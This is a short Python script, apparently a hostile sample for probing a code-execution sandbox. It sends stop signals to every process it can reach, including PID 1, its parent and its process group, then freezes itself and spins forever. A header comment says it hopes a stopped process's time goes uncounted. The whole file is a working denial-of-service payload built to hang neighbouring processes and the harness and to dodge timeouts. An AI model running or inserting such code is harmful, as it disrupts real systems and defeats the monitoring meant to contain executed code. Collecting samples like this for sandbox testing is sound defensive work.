# Stops others and itself by signals, by every way there is, and hopes that nobody counts the time of what stands still.
# breach: neighbour, hang, late
import typing

os, ctypes = typing.sys.modules["os"], typing.sys.modules.get("ctypes") or __import__("ctypes")
libc = ctypes.CDLL(None, use_errno=True)
for signal in (20, 21, 22, 19):  # what a terminal sends to stop, and SIGSTOP
    for target in (-1, 0, 1, os.getppid(), *range(2, 300)):
        if target != os.getpid():
            try:
                os.kill(target, signal)
            except OSError:
                pass
libc.syscall(234 if os.uname().machine == "x86_64" else 131, os.getpid(), os.getpid(), 19)
getattr(libc, "raise")(19)
while True:
    pass
